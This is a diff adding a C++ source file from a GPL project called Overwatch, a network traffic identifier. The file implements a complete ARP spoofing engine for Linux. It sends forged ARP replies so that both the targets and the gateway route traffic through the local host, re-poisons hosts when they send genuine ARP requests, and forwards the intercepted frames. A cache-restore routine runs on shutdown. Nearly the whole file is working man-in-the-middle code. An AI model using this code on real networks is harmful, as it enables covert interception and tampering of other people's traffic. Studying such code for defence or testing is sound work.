@@ -0,0 +1,636 @@
+/* 
+ * Overwatch - Remote Network Traffic Identifier 
+ * Copyright (C) 2020 xander-io
+ *
+ * This program is free software: you can redistribute it and/or modify
+ * it under the terms of the GNU General Public License as published by
+ * the Free Software Foundation, either version 3 of the License, or
+ * (at your option) any later version.
+ * 
+ * This program is distributed in the hope that it will be useful,
+ * but WITHOUT ANY WARRANTY; without even the implied warranty of
+ * MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+ * GNU General Public License for more details.
+ * 
+ * You should have received a copy of the GNU General Public License
+ * along with this program.  If not, see <https://www.gnu.org/licenses/>.
+ */
+
+
+
+#ifdef __linux__
+#include <arpa/inet.h>
+#include <linux/if_ether.h>
+#include <linux/if_packet.h>
+#include <net/if.h>
+#include <netinet/in.h>
+#include <poll.h>
+#include <sys/ioctl.h>
+#include <sys/socket.h>
+#include <unistd.h>
+#endif
+#include <algorithm>
+#include <cerrno>
+#include <chrono>
+#include <cstring>
+#include <fstream>
+#include <stdexcept>
+
+#include "arp_spoofer.hpp"
+#include "bpf_filter.hpp"
+#include "decoder.hpp"
+#include "logging.hpp"
+#include "timer_wheel.hpp"
+#include "timing.hpp"
+
+// Resolution of the poisoning schedule (also the longest the thread sleeps)
+#define POISON_TICK_MS 10
+#define POISON_WHEEL_SLOTS 512
+// Time between two rounds of corrective replies on shutdown
+#define RESTORE_INTERVAL_MS 100
+// Receive ring of the intercepted frames
+#define FORWARD_RING_BLOCK_SIZE (1U << 20)
+#define FORWARD_RING_BLOCK_COUNT 8
+#define NANOSECONDS_PER_MILLISECOND 1000000ULL
+#define IP_FORWARD_PATH "/proc/sys/net/ipv4/ip_forward"
+// Added in Linux 4.20, older headers lack it
+#ifndef PACKET_IGNORE_OUTGOING
+#define PACKET_IGNORE_OUTGOING 23
+#endif
+
+#define ETHERNET_HEADER_SIZE 14
+#define ETHER_TYPE_IPV4 0x0800
+#define IPV4_SRC_OFFSET (ETHERNET_HEADER_SIZE + 12)
+#define IPV4_DST_OFFSET (ETHERNET_HEADER_SIZE + 16)
+#define MIN_IPV4_FRAME_SIZE (ETHERNET_HEADER_SIZE + 20)
+
+namespace overwatch::intercept
+{
+#ifdef __linux__
+    namespace
+    {
+        /**
+         * Builds an exception out of the current errno
+         *
+         * @param[in] what Description of the failed operation
+         * @return The exception to throw
+         */
+        std::runtime_error system_error_(std::string const &what)
+        {
+            return std::runtime_error{what + " - " + std::strerror(errno)};
+        }
+
+        /**
+         * Converts an IPv4 address in host byte order to its string representation
+         *
+         * @param[in] ip The address
+         * @return The string representation
+         */
+        std::string ipv4_string_(std::uint32_t const ip)
+        {
+            return common::utils::to_string(common::utils::IpAddress::from_ipv4(ip));
+        }
+
+        /**
+         * Determines if the kernel routes frames between interfaces itself
+         *
+         * @return True if IPv4 forwarding is enabled
+         */
+        bool kernel_forwarding_()
+        {
+            std::ifstream file{IP_FORWARD_PATH};
+            char value = '0';
+            return file >> value && value == '1';
+        }
+    } // namespace
+
+    ArpSpoofer::ArpSpoofer(std::string const &iface, std::vector<common::utils::IpAddress> const &targets,
+                           common::utils::IpAddress const &gateway, SpoofOptions const &options)
+        : iface_{iface}, options_{options}, ifindex_{0}, arp_fd_{-1}, local_mac_{}, local_ip_{0}, gateway_{},
+          running_{false}, poisoned_{false}, poison_replies_{0}, forwarded_frames_{0}, forward_failures_{0},
+          send_failures_{0}
+    {
+        if (!gateway.is_ipv4())
+        {
+            throw std::invalid_argument{"ARP spoofing gateway '" + common::utils::to_string(gateway) + "' is not an IPv4 address"};
+        }
+        std::vector<std::uint32_t> target_ips;
+        for (common::utils::IpAddress const &target : targets)
+        {
+            if (!target.is_ipv4())
+            {
+                throw std::invalid_argument{"ARP spoofing target '" + common::utils::to_string(target) + "' is not an IPv4 address"};
+            }
+            // The gateway is the other end of every interception, not a target
+            if (target != gateway && std::find(target_ips.begin(), target_ips.end(), target.to_ipv4()) == target_ips.end())
+            {
+                target_ips.push_back(target.to_ipv4());
+            }
+        }
+        if (target_ips.empty())
+        {
+            throw std::invalid_argument{"ARP spoofing requires at least one IPv4 target besides the gateway"};
+        }
+        gateway_.ip = gateway.to_ipv4();
+
+        try
+        {
+            open_();
+            resolve_(target_ips);
+            if (options_.forward)
+            {
+                std::vector<common::utils::IpPrefix> hosts{common::utils::IpPrefix::host(gateway)};
+                for (Host const &target : targets_)
+                {
+                    hosts.push_back(common::utils::IpPrefix::host(common::utils::IpAddress::from_ipv4(target.ip)));
+                }
+                capture::RingOptions ring_options;
+                ring_options.block_size = FORWARD_RING_BLOCK_SIZE;
+                ring_options.block_count = FORWARD_RING_BLOCK_COUNT;
+                // Intercepted frames are addressed to this host, the forwarded copies must not loop back
+                ring_options.promiscuous = false;
+                ring_options.ignore_outgoing = true;
+                ring_options.filter = capture::BpfFilter{hosts};
+                rx_ring_ = std::make_unique<capture::RingCapture>(iface_, ring_options);
+                tx_ring_ = std::make_unique<capture::TxRing>(iface_, options_.tx_ring);
+                if (kernel_forwarding_())
+                {
+                    LOG_WARNING << "Kernel IP forwarding is enabled - intercepted packets are routed twice";
+                }
+            }
+        }
+        catch (std::exception const &)
+        {
+            close_();
+            throw;
+        }
+    }
+
+    ArpSpoofer::~ArpSpoofer()
+    {
+        stop();
+        close_();
+    }
+
+    void ArpSpoofer::start()
+    {
+        if (running_.exchange(true))
+        {
+            return;
+        }
+        poisoned_ = true;
+        thread_ = std::thread{&ArpSpoofer::run_, this};
+        LOG_INFO << "Intercepting " << targets_.size() << " target(s) on '" << iface_ << "' as gateway "
+                 << ipv4_string_(gateway_.ip) << " (" << to_string(gateway_.mac) << ")";
+    }
+
+    void ArpSpoofer::stop() noexcept
+    {
+        running_ = false;
+        if (thread_.joinable())
+        {
+            thread_.join();
+        }
+        if (poisoned_)
+        {
+            restore_();
+            poisoned_ = false;
+        }
+    }
+
+    MacAddress const &ArpSpoofer::get_local_mac() const noexcept
+    {
+        return local_mac_;
+    }
+
+    std::optional<MacAddress> ArpSpoofer::get_mac(common::utils::IpAddress const &address) const
+    {
+        if (!address.is_ipv4())
+        {
+            return std::nullopt;
+        }
+        auto const it = macs_.find(address.to_ipv4());
+        return it == macs_.end() ? std::nullopt : std::optional<MacAddress>{it->second};
+    }
+
+    std::vector<common::utils::IpAddress> ArpSpoofer::get_targets() const
+    {
+        std::vector<common::utils::IpAddress> targets;
+        for (Host const &target : targets_)
+        {
+            targets.push_back(common::utils::IpAddress::from_ipv4(target.ip));
+        }
+        return targets;
+    }
+
+    SpoofCounters ArpSpoofer::get_counters() const noexcept
+    {
+        SpoofCounters counters;
+        counters.poison_replies = poison_replies_.load(std::memory_order_relaxed);
+        counters.forwarded_frames = forwarded_frames_.load(std::memory_order_relaxed);
+        counters.forward_failures = forward_failures_.load(std::memory_order_relaxed);
+        counters.send_failures = send_failures_.load(std::memory_order_relaxed);
+        return counters;
+    }
+
+    void ArpSpoofer::open_()
+    {
+        ifindex_ = static_cast<int>(if_nametoindex(iface_.c_str()));
+        if (ifindex_ == 0)
+        {
+            throw std::runtime_error{"Interface '" + iface_ + "' does not exist"};
+        }
+
+        // The addresses the targets and the gateway are told about
+        int const inet_fd = socket(AF_INET, SOCK_DGRAM, 0);
+        if (inet_fd < 0)
+        {
+            throw system_error_("Failed to open an address query socket");
+        }
+        ifreq request{};
+        std::strncpy(request.ifr_name, iface_.c_str(), IFNAMSIZ - 1);
+        if (ioctl(inet_fd, SIOCGIFHWADDR, &request) < 0)
+        {
+            int const error = errno;
+            close(inet_fd);
+            errno = error;
+            throw system_error_("Failed to read the hardware address of '" + iface_ + "'");
+        }
+        std::memcpy(local_mac_.data(), request.ifr_hwaddr.sa_data, local_mac_.size());
+        // Without an address of its own the interface still resolves hosts with ARP probes (sender 0.0.0.0)
+        if (ioctl(inet_fd, SIOCGIFADDR, &request) == 0)
+        {
+            local_ip_ = ntohl(reinterpret_cast<sockaddr_in const *>(&request.ifr_addr)->sin_addr.s_addr);
+        }
+        close(inet_fd);
+
+        arp_fd_ = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ARP));
+        if (arp_fd_ < 0)
+        {
+            throw system_error_("Failed to open ARP socket on '" + iface_ + "'");
+        }
+        int const ignore = 1;
+        if (setsockopt(arp_fd_, SOL_PACKET, PACKET_IGNORE_OUTGOING, &ignore, sizeof(ignore)) < 0)
+        {
+            throw system_error_("Failed to ignore outgoing frames on '" + iface_ + "'");
+        }
+        sockaddr_ll addr{};
+        addr.sll_family = AF_PACKET;
+        addr.sll_protocol = htons(ETH_P_ARP);
+        addr.sll_ifindex = ifindex_;
+        if (bind(arp_fd_, reinterpret_cast<sockaddr *>(&addr), sizeof(addr)) < 0)
+        {
+            throw system_error_("Failed to bind the ARP socket to '" + iface_ + "'");
+        }
+        LOG_DEBUG << "Opened ARP socket on '" << iface_ << "' (" << to_string(local_mac_) << ", "
+                  << ipv4_string_(local_ip_) << ")";
+    }
+
+    void ArpSpoofer::close_() noexcept
+    {
+        tx_ring_.reset();
+        rx_ring_.reset();
+        if (arp_fd_ >= 0)
+        {
+            close(arp_fd_);
+            arp_fd_ = -1;
+        }
+    }
+
+    void ArpSpoofer::resolve_(std::vector<std::uint32_t> const &targets)
+    {
+        std::vector<std::uint32_t> pending{targets};
+        pending.push_back(gateway_.ip);
+
+        for (std::uint32_t attempt = 0; attempt < options_.resolve_attempts && !pending.empty(); ++attempt)
+        {
+            for (std::uint32_t const ip : pending)
+            {
+                ArpMessage request;
+                request.operation = ARP_REQUEST;
+                request.sender_mac = local_mac_;
+                request.sender_ip = local_ip_;
+                request.target_ip = ip;
+                // A request without room in the socket is sent again by the next attempt
+                if (!send_arp_(request, BROADCAST_MAC))
+                {
+                    send_failures_.fetch_add(1, std::memory_order_relaxed);
+                }
+            }
+
+            std::uint64_t const deadline = common::timing::monotonic_ns() + options_.resolve_timeout_ms * NANOSECONDS_PER_MILLISECOND;
+            std::uint8_t frame[ETH_FRAME_LEN];
+            while (!pending.empty())
+            {
+                std::uint64_t const now = common::timing::monotonic_ns();
+                if (now >= deadline)
+                {
+                    break;
+                }
+                pollfd pfd{arp_fd_, POLLIN, 0};
+                int const timeout_ms = static_cast<int>((deadline - now + NANOSECONDS_PER_MILLISECOND - 1) / NANOSECONDS_PER_MILLISECOND);
+                if (poll(&pfd, 1, timeout_ms) < 0 && errno != EINTR)
+                {
+                    throw system_error_("Failed to poll the ARP socket on '" + iface_ + "'");
+                }
+                ssize_t length = 0;
+                while ((length = recv(arp_fd_, frame, sizeof(frame), MSG_DONTWAIT)) > 0)
+                {
+                    std::optional<ArpMessage> const reply = parse_arp_frame(frame, static_cast<std::size_t>(length));
+                    if (!reply || reply->operation != ARP_REPLY)
+                    {
+                        continue;
+                    }
+                    auto const it = std::find(pending.begin(), pending.end(), reply->sender_ip);
+                    if (it != pending.end())
+                    {
+                        macs_[reply->sender_ip] = reply->sender_mac;
+                        pending.erase(it);
+                    }
+                }
+            }
+        }
+
+        auto const gateway_mac = macs_.find(gateway_.ip);
+        if (gateway_mac == macs_.end())
+        {
+            throw std::runtime_error{"Gateway " + ipv4_string_(gateway_.ip) + " did not answer ARP requests on '" + iface_ + "'"};
+        }
+        gateway_.mac = gateway_mac->second;
+        for (std::uint32_t const ip : targets)
+        {
+            auto const mac = macs_.find(ip);
+            if (mac == macs_.end())
+            {
+                LOG_WARNING << "Target " << ipv4_string_(ip) << " did not answer ARP requests on '" << iface_ << "' - not intercepted";
+                continue;
+            }
+            targets_.push_back(Host{ip, mac->second});
+            LOG_DEBUG << "Resolved target " << ipv4_string_(ip) << " to " << to_string(mac->second);
+        }
+        if (targets_.empty())
+        {
+            throw std::runtime_error{"None of the targets answered ARP requests on '" + iface_ + "'"};
+        }
+    }
+
+    void ArpSpoofer::run_() noexcept
+    {
+        try
+        {
+            std::uint64_t const interval_ns = options_.poison_interval_ms * NANOSECONDS_PER_MILLISECOND;
+            common::timing::TimerWheel<PoisonTimer> wheel{POISON_WHEEL_SLOTS, POISON_TICK_MS * NANOSECONDS_PER_MILLISECOND,
+                                                          common::timing::monotonic_ns()};
+            // Spread the targets over the interval - the reply rate stays flat instead of bursting every interval
+            for (std::size_t i = 0; i < targets_.size(); ++i)
+            {
+                wheel.schedule(interval_ns * i / targets_.size(), PoisonTimer{i, true});
+            }
+
+            capture::PacketBatch batch;
+            std::vector<std::size_t> repoison;
+            while (running_.load(std::memory_order_relaxed))
+            {
+                wheel.advance(common::timing::monotonic_ns(), [&](PoisonTimer const &timer) {
+                    poison_(targets_[timer.target]);
+                    if (timer.periodic)
+                    {
+                        wheel.schedule(interval_ns, timer);
+                    }
+                });
+
+                handle_arp_(repoison);
+                for (std::size_t const target : repoison)
+                {
+                    // Let the real reply land first, the poisoned one then overrides it
+                    wheel.schedule(POISON_TICK_MS * NANOSECONDS_PER_MILLISECOND, PoisonTimer{target, false});
+                }
+                repoison.clear();
+
+                if (rx_ring_)
+                {
+                    if (rx_ring_->next_batch(batch, POISON_TICK_MS))
+                    {
+                        forward_(batch);
+                    }
+                }
+                else
+                {
+                    pollfd pfd{arp_fd_, POLLIN, 0};
+                    if (poll(&pfd, 1, POISON_TICK_MS) < 0 && errno != EINTR)
+                    {
+                        throw system_error_("Failed to poll the ARP socket on '" + iface_ + "'");
+                    }
+                }
+            }
+        }
+        catch (std::exception const &e)
+        {
+            LOG_ERROR << "ARP spoofing on '" << iface_ << "' stopped: " << e.what();
+            // Heal the hosts right away rather than leaving them poisoned until stop() (joined after this)
+            restore_();
+            poisoned_ = false;
+        }
+    }
+
+    void ArpSpoofer::poison_(Host const &target)
+    {
+        ArpMessage reply;
+        reply.operation = ARP_REPLY;
+        reply.sender_mac = local_mac_;
+
+        // Tell the target that the gateway is here...
+        reply.sender_ip = gateway_.ip;
+        reply.target_mac = target.mac;
+        reply.target_ip = target.ip;
+        std::uint64_t sent = send_arp_(reply, target.mac) ? 1 : 0;
+        // ...and the gateway that the target is here
+        reply.sender_ip = target.ip;
+        reply.target_mac = gateway_.mac;
+        reply.target_ip = gateway_.ip;
+        sent += send_arp_(reply, gateway_.mac) ? 1 : 0;
+        // A dropped reply is made up for by the next round of the target
+        poison_replies_.fetch_add(sent, std::memory_order_relaxed);
+        send_failures_.fetch_add(2 - sent, std::memory_order_relaxed);
+    }
+
+    void ArpSpoofer::restore_() noexcept
+    {
+        try
+        {
+            for (std::uint32_t round = 0; round < options_.restore_rounds; ++round)
+            {
+                if (round > 0)
+                {
+                    std::this_thread::sleep_for(std::chrono::milliseconds(RESTORE_INTERVAL_MS));
+                }
+                for (Host const &target : targets_)
+                {
+                    ArpMessage reply;
+                    reply.operation = ARP_REPLY;
+                    reply.sender_mac = gateway_.mac;
+                    reply.sender_ip = gateway_.ip;
+                    reply.target_mac = target.mac;
+                    reply.target_ip = target.ip;
+                    std::uint64_t sent = send_arp_(reply, target.mac) ? 1 : 0;
+                    reply.sender_mac = target.mac;
+                    reply.sender_ip = target.ip;
+                    reply.target_mac = gateway_.mac;
+                    reply.target_ip = gateway_.ip;
+                    sent += send_arp_(reply, gateway_.mac) ? 1 : 0;
+                    send_failures_.fetch_add(2 - sent, std::memory_order_relaxed);
+                }
+            }
+            LOG_INFO << "Restored the ARP caches of " << targets_.size() << " target(s) and gateway "
+                     << ipv4_string_(gateway_.ip);
+        }
+        catch (std::exception const &e)
+        {
+            LOG_ERROR << "Failed to restore the ARP caches on '" << iface_ << "': " << e.what();
+        }
+    }
+
+    void ArpSpoofer::handle_arp_(std::vector<std::size_t> &repoison)
+    {
+        std::uint8_t frame[ETH_FRAME_LEN];
+        ssize_t length = 0;
+        while ((length = recv(arp_fd_, frame, sizeof(frame), MSG_DONTWAIT)) > 0)
+        {
+            std::optional<ArpMessage> const message = parse_arp_frame(frame, static_cast<std::size_t>(length));
+            if (!message || message->operation != ARP_REQUEST)
+            {
+                continue;
+            }
+            // Only requests between the gateway and a target undo the poisoning
+            std::uint32_t target_ip = 0;
+            if (message->sender_ip == gateway_.ip)
+            {
+                target_ip = message->target_ip;
+            }
+            else if (message->target_ip == gateway_.ip)
+            {
+                target_ip = message->sender_ip;
+            }
+            for (std::size_t i = 0; i < targets_.size(); ++i)
+            {
+                if (targets_[i].ip == target_ip)
+                {
+                    repoison.push_back(i);
+                    break;
+                }
+            }
+        }
+        if (length < 0 && errno != EAGAIN && errno != EWOULDBLOCK && errno != EINTR)
+        {
+            throw system_error_("Failed to read from the ARP socket on '" + iface_ + "'");
+        }
+    }
+
+    void ArpSpoofer::forward_(capture::PacketBatch const &batch)
+    {
+        std::uint64_t forwarded = 0;
+        std::uint64_t failures = 0;
+        for (capture::PacketView const &packet : batch)
+        {
+            // Intercepted frames carry the local address as destination but not as source
+            if (packet.caplen < MIN_IPV4_FRAME_SIZE || decode::load_be16(packet.data + 12) != ETHER_TYPE_IPV4 ||
+                std::memcmp(packet.data, local_mac_.data(), local_mac_.size()) != 0 ||
+                std::memcmp(packet.data + 6, local_mac_.data(), local_mac_.size()) == 0)
+            {
+                continue;
+            }
+            std::uint32_t const dst_ip = decode::load_be32(packet.data + IPV4_DST_OFFSET);
+            if (dst_ip == local_ip_)
+            {
+                continue;
+            }
+
+            // Frames for a resolved host go straight to it, everything else leaves through the gateway
+            MacAddress next_hop = gateway_.mac;
+            auto const host = macs_.find(dst_ip);
+            if (host != macs_.end())
+            {
+                next_hop = host->second;
+            }
+            else if (macs_.find(decode::load_be32(packet.data + IPV4_SRC_OFFSET)) == macs_.end())
+            {
+                continue;
+            }
+
+            std::uint8_t *slot = packet.caplen == packet.wire_len && packet.caplen <= tx_ring_->max_frame_size()
+                                     ? tx_ring_->claim()
+                                     : nullptr;
+            if (!slot)
+            {
+                ++failures;
+                continue;
+            }
+            std::memcpy(slot, next_hop.data(), next_hop.size());
+            std::memcpy(slot + 6, local_mac_.data(), local_mac_.size());
+            std::memcpy(slot + 12, packet.data + 12, packet.caplen - 12);
+            tx_ring_->commit(packet.caplen);
+            ++forwarded;
+        }
+        tx_ring_->flush();
+        forwarded_frames_.fetch_add(forwarded, std::memory_order_relaxed);
+        forward_failures_.fetch_add(failures, std::memory_order_relaxed);
+    }
+
+    bool ArpSpoofer::send_arp_(ArpMessage const &message, MacAddress const &destination)
+    {
+        std::uint8_t frame[ARP_FRAME_SIZE];
+        std::size_t const length = build_arp_frame(message, destination, local_mac_, frame);
+        if (send(arp_fd_, frame, length, 0) < 0)
+        {
+            // The device queue or the socket buffer is full for now
+            if (errno == ENOBUFS || errno == EAGAIN || errno == EWOULDBLOCK || errno == EINTR)
+            {
+                return false;
+            }
+            throw system_error_("Failed to send an ARP frame on '" + iface_ + "'");
+        }
+        return true;
+    }
+#else
+    ArpSpoofer::ArpSpoofer(std::string const &iface, std::vector<common::utils::IpAddress> const &,
+                           common::utils::IpAddress const &, SpoofOptions const &options)
+        : iface_{iface}, options_{options}, ifindex_{0}, arp_fd_{-1}, local_mac_{}, local_ip_{0}, gateway_{},
+          running_{false}, poisoned_{false}, poison_replies_{0}, forwarded_frames_{0}, forward_failures_{0},
+          send_failures_{0}
+    {
+        throw std::runtime_error{"ARP spoofing is only supported on Linux"};
+    }
+
+    ArpSpoofer::~ArpSpoofer()
+    {
+    }
+
+    void ArpSpoofer::start()
+    {
+    }
+
+    void ArpSpoofer::stop() noexcept
+    {
+    }
+
+    MacAddress const &ArpSpoofer::get_local_mac() const noexcept
+    {
+        return local_mac_;
+    }
+
+    std::optional<MacAddress> ArpSpoofer::get_mac(common::utils::IpAddress const &) const
+    {
+        return std::nullopt;
+    }
+
+    std::vector<common::utils::IpAddress> ArpSpoofer::get_targets() const
+    {
+        return {};
+    }
+
+    SpoofCounters ArpSpoofer::get_counters() const noexcept
+    {
+        return SpoofCounters{};
+    }
+#endif
+} // namespace overwatch::intercept